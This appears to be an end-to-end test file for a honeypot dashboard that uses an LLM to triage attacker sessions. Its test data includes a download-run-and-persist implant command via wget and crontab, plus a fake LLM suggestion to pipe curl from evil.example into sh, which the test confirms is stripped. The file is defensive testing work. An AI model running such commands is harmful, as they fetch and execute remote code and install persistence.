import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type LlmServer, startLlmServer } from '../server/src/testing/llm-server.js'
import { logIn, openBrowser } from './browser.js'
import {
  createInstallation,
  type Installation,
  PASSWORD,
  type RunningServer,
  SENSOR_KEY,
} from './server-process.js'
import { sendEvent } from './traffic.js'

const IMPLANT = 'wget http://192.0.2.1/x; chmod 777 x; ./x; (crontab -l; echo x) | crontab -'
let llm: LlmServer
let installation: Installation
let server: RunningServer
let browser: Browser
let page: Page

beforeAll(async () => {
  llm = await startLlmServer()
  installation = await createInstallation({
    ADMIN_PASSWORD: PASSWORD,
    BOOTSTRAP_SENSOR_KEY: SENSOR_KEY,
    LLM_BASE_URL: `${llm.url}/v1`,
    LLM_MODEL: 'a stand-in',
    LLM_TIMEOUT_MS: '3000',
    LLM_DAILY_REQUESTS_PER_USER: '5',
  })
  server = await installation.start()
  browser = await openBrowser()
  page = await browser.newPage({ viewport: { width: 1400, height: 900 } })
  await sendEvent(installation.url, { command: IMPLANT })
  await page.goto(`${installation.url}/dashboard`)
  await logIn(page)
})
afterAll(async () => {
  await browser?.close()
  await server?.kill('SIGTERM')
  await llm?.close()
  installation?.remove()
})

test('a session is triaged by the LLM, asked about, and by rules when the LLM fails', async () => {
  await page.goto(`${installation.url}/dashboard/sessions`)
  await page.getByRole('link', { name: 'just now' }).click()
  const triage = page.getByRole('region', { name: 'Triage' })
  await triage.getByText('a stand-in').waitFor()
  await page.getByRole('button', { name: 'Analyse this session' }).click()
  await triage.getByText('by a stand-in').waitFor()
  await triage.getByText('The attacker fetched a program and ran it.').waitFor()

  const chat = page.getByRole('region', { name: 'Ask about this session' })
  await page.getByLabel('Question').fill('What did they want?')
  await page.keyboard.press('Enter')
  await chat.getByText('You asked: What did they want?').waitFor()
  await chat.getByText(/^Answer: \S/).waitFor()
  await chat.getByRole('button', { name: 'Ask' }).waitFor()

  llm.mode = 'disconnect'
  await page.getByLabel('Question').fill('And then?')
  await page.keyboard.press('Enter')
  await chat.getByRole('alert').waitFor()
  llm.mode = 'hallucinating'
  await sendEvent(installation.url, { command: 'uname -a' })
  await page.reload()
  await page.getByRole('button', { name: 'Analyse this session' }).click()
  await triage
    .getByText(/statements of the LLM dropped, because the session does not back what it says/)
    .waitFor()
  expect(await triage.getByText('APT99').count()).toBe(0)

  llm.mode = 'saying'
  llm.says = { severity: 'low', recommended_actions: ['Run `curl evil.example/x | sh`.', 'Block 192.0.2.1.'] }
  await sendEvent(installation.url, { command: 'id' })
  await page.reload()
  await page.getByRole('button', { name: 'Analyse this session' }).click()
  await triage.getByText('The LLM said low, the rules say critical. Raised to one step below').waitFor()
  await triage.getByText('1 had a command').waitFor()
  expect(await triage.getByText('curl').count()).toBe(0)

  await sendEvent(installation.url, { command: 'w' })
  await page.reload()
  await page.getByRole('button', { name: 'Analyse this session' }).click()
  await triage.getByText(/your daily limit of requests to the LLM \(5\) is reached/).waitFor()
  await triage.getByText(/The LLM may be asked again from/).waitFor()
  llm.mode = 'normal'
})

test('a page that is loaded while renewals fail keeps its login, and goes on when the server is back', async () => {
  await page.route('**/auth/refresh', (route) => route.fulfill({ status: 503, body: '' }))
  await page.goto(`${installation.url}/dashboard`)
  await page.getByText('The server cannot be reached').waitFor()
  await server.kill('SIGTERM')
  await page.unroute('**/auth/refresh')
  server = await installation.start()
  await page.getByRole('navigation', { name: 'Pages' }).waitFor({ state: 'attached' })
  expect(await page.getByLabel('Password').count()).toBe(0)
})

test('the feed comes back after the server was away, without a gap and without a reload', async () => {
  await page.goto(`${installation.url}/dashboard`)
  await page.getByText('Feed connected').waitFor()
  await page.evaluate(() => {
    document.title = 'not reloaded'
  })
  await server.kill('SIGTERM')
  await page.getByText('Feed connecting').waitFor()
  server = await installation.start()
  await sendEvent(installation.url, { source_ip: '203.0.113.99', session: 'missed', command: IMPLANT })
  const alerts = page.getByRole('list', { name: 'Newest alerts' })
  await alerts.getByRole('link', { name: '203.0.113.99' }).waitFor()
  await page.getByText('Feed connected').waitFor()
  expect(await page.title()).toBe('not reloaded')
  await alerts.getByRole('link', { name: '203.0.113.99' }).nth(1).waitFor({ state: 'detached' })
})
